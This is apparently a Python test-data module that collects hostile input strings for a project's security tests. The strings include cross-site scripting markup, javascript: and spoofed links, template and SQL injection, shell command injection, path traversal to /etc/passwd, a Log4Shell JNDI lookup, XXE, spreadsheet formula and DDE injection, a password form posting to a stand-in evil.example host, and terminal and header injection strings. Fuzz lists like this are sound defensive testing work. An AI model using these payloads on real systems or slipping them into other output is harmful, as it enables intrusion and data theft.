"""Hostile strings written for this project: markup, links, styles, formulas, templates, terminals.

A string that works sets `window.__pwned`, or asks evil.example for something.
"""

import base64
import json
from pathlib import Path

EVIL = "https://evil.example"
JS = "window.__pwned=1"
# Kept beside the project, because their licences do not allow to copy them into it.
FOLDER = Path(__file__).parents[2].parent / "shared" / "evaldata" / "hostile_inputs"

MARKUP = [
    f"<script>{JS}</script>",
    f"<script src={EVIL}/x.js></script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<script/x>{JS}</script/x>",
    f"<script>{JS}//",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<img src=x onerror={JS}>",
    f"<img src=x onerror='{JS}'//",
    f"<img/src=x/onerror={JS}>",
    f"<IMG SRC=x OnErRoR={JS}>",
    f"<img src=`x`onerror={JS}>",
    f"<img src={EVIL}/pixel.png>",
    f"<img srcset={EVIL}/pixel.png>",
    f"<input type=image src={EVIL}/p.png>",
    f"<picture><source srcset={EVIL}/p.png><img src=x></picture>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg/onload={JS}//",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{JS}><text y=20>x</text></a></svg>",
    f"<svg><use href={EVIL}/x.svg#x></svg>",
    f"<svg><foreignObject><iframe src=javascript:{JS}></foreignObject></svg>",
    f"<math><mtext><mglyph><style><img src=x onerror={JS}>",
    f"<math href=javascript:{JS}>x</math>",
    f"<details open ontoggle={JS}>x</details>",
    f"<body onload={JS}>",
    f"<video src=x onerror={JS}></video>",
    f"<video><source onerror={JS}></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f"<button popovertarget=x onclick={JS}>x</button>",
    f"<div onpointerover={JS} style=position:fixed;inset:0>COVER</div>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src=javascript:{JS}></iframe>",
    f"<object data={EVIL}></object>",
    f"<object data=javascript:{JS}></object>",
    f"<embed src={EVIL}>",
    f"<form action={EVIL}><input name=password><button>Sign in</button></form>",
    f"<form><button formaction=javascript:{JS}>x</button></form>",
    f"<isindex action={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<style>@import '{EVIL}/x.css'</style>",
    "<style>body{display:none}</style>",
    "<style>*{position:fixed;inset:0;background:red}</style>",
    f"<div style=background:url({EVIL}/x.png)>x</div>",
    '<div style="position:fixed;inset:0;z-index:99999;background:red">COVER</div>',
    "<plaintext>",
    "<xmp><p title='</xmp><img src=x onerror=window.__pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<template><img src=x onerror=window.__pwned=1></template>",
    "<!--><img src=x onerror=window.__pwned=1>-->",
    "<!-- --!><img src=x onerror=window.__pwned=1>",
    "<![CDATA[<img src=x onerror=window.__pwned=1>]]>",
    "<?xml-stylesheet href=javascript:window.__pwned=1?>",
    "</p></div></section></main><h1>Signed out</h1>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "<p role=alert id=error-line>Your session has ended</p>",
    "<button id=do-menu class=cc-do>x</button><div id=conversation-id></div>",
    "<a id=__gradio_mode__></a><a id=gradio_config name=root></a>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "\x3cscript\x3ewindow.__pwned=1\x3c/script\x3e",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "<\x00script>window.__pwned=1</script>",
    "<img src=x on\x00error=window.__pwned=1>",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
]
LINKS = [
    f"[x](javascript:{JS})",
    f"[x](JaVaScRiPt:{JS})",
    f"[x](java\tscript:{JS})",
    f"[x](java&#x0A;script:{JS})",
    f"[x](&#106;avascript:{JS})",
    f"[x](\x01javascript:{JS})",
    f"[x](vbscript:{JS})",
    "[x](data:text/html,<script>window.__pwned=1</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"[x](blob:{EVIL}/1)",
    f"[x]({EVIL})",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https://mara-lindqvist.example.com@evil.example)",
    "[x](https://mara-lindqvist.example.com.evil.example)",
    "[x](https://evil.example\\@mara-lindqvist.example.com)",
    "[x](https://evil\u3002example)",
    f"<{EVIL}>",
    f"{EVIL}/bare",
    "www.evil.example",
    f"![x]({EVIL}/x.png)",
    f'![x](x "onerror={JS}")',
    f'[x](x "onmouseover={JS}")',
    f"[x][r]\n\n[r]: {EVIL}",
    f"![x][r]\n\n[r]: javascript:{JS}",
    f"[![x]({EVIL}/x.png)]({EVIL})",
    f"<a href=javascript:{JS}>x</a>",
    f"<a href={EVIL} target=_top>x</a>",
    f"<a href=x ping={EVIL}>x</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>x</a>",
    "[S1](javascript:window.__pwned=1) [S99999999999999999999] [S-1] [S1",
]
MARKDOWN = [
    f"```mermaid\ngraph TD; A-->B\nclick A '{EVIL}'\n```",
    f"```html\n<img src=x onerror={JS}>\n```",
    f"`` ` ``<img src=x onerror={JS}>`` ` ``",
    f"~~~\n```\n~~~\n<img src=x onerror={JS}>",
    f"$$\\href{{javascript:{JS}}}{{x}}$$",
    f"\\(\\unicode{{<img src=x onerror={JS}>}}\\)",
    f"|a|\n|-|\n|<img src=x onerror={JS}>|",
    f"> <img src=x onerror={JS}>",
    f"# <img src=x onerror={JS}>",
    f"- <svg onload={JS}>",
    f"[^1]\n\n[^1]: <img src=x onerror={JS}>",
    f":::note\n<img src=x onerror={JS}>\n:::",
]
TEMPLATES = [
    f"${{{JS}}}",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    "{{7*7}} #{7*7} <%= 7*7 %> ${{7*7}} @(7*7)",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "%s %n %d %(name)s {0} {name} {0.__class__}",
    "__proto__[x]=1&constructor[prototype][x]=1",
    '{"__type__": "update", "visible": true, "value": "x"}',
    '{"path": "/etc/passwd", "url": "https://evil.example", "meta": {"_type": "gradio.FileData"}}',
    "'; DROP TABLE message; --",
    "' OR '1'='1",
    "1; ATTACH DATABASE '/tmp/x' AS x; --",
    "$(touch /tmp/pwned) `touch /tmp/pwned` | touch /tmp/pwned",
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "() { :;}; echo pwned",
    "${jndi:ldap://evil.example/x}",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    '",=1+1,"',
    "'=1+1",
    ";=1+1",
    "\uff1d1+1",
    "\x00=1+1",
    "x\n=1+1",
]
TERMINALS = [
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\u202egnp.exe\u202c",
    "\u2066hidden\u2069 \u200b\u200d\ufeff",
    'x\r\n{"level":"error","event":"forged"}',
    "x\r\nSet-Cookie: owner=1\r\n\r\n<script>window.__pwned=1</script>",
    "BEGIN:VEVENT\r\nATTACH:https://evil.example\r\nEND:VEVENT",
    "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "x\nBcc: everybody@evil.example\n\nspam",
    "<@everyone> <!channel> @here <https://evil.example|your bank>",
    "\U0001f600" * 3 + "Z\u0351\u036b\u0343a\u0329lgo",
    "a" * 500,
]
OWN = [*MARKUP, *LINKS, *MARKDOWN, *TEMPLATES, *FORMULAS, *TERMINALS]
# Out of an attribute, out of a quoted one, and behind words that look like ours.
BROKEN_OUT = [f'">{text}' for text in MARKUP[::3]] + [f"'>{text}" for text in MARKUP[1::3]]


def list_payloads() -> list[str]:
    """All of ours, and those of the collection where it stands beside the project."""
    found = [*OWN, *BROKEN_OUT]
    if FOLDER.is_dir():
        for name in ("strings.jsonl", "injected_job_posts.jsonl"):
            lines = (FOLDER / name).read_text("utf-8").splitlines()
            found += [json.loads(line)["text"] for line in lines]
        lines = (FOLDER / "malformed_bytes.jsonl").read_text("utf-8").splitlines()
        encoded = [json.loads(line)["bytes_base64"] for line in lines]
        found += [base64.b64decode(one).decode("utf-8", "replace") for one in encoded]
    return list(dict.fromkeys(found))
